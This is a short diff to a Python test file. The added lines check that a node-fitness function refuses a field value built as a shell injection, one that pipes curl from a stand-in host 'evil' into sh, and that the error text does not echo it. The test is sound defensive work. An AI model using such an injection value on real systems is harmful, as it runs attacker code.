@@ -174,6 +174,10 @@ def test_facts_say_what_is_missing():
     ):
         with pytest.raises(NodeRefused, match=says):
             check_fit(good | change)
+    check_fit(good | {"free_mb": "\N{SUPERSCRIPT TWO}"})
+    with pytest.raises(NodeRefused) as caught:
+        check_fit(good | {"sudo": "no", "user": "x'; curl http://evil/ | sh; '"})
+    assert "evil" not in f"{caught.value} {caught.value.remedy}", "that is for a shell"
 
 
 def test_where_programs_come_from(tmp_path):
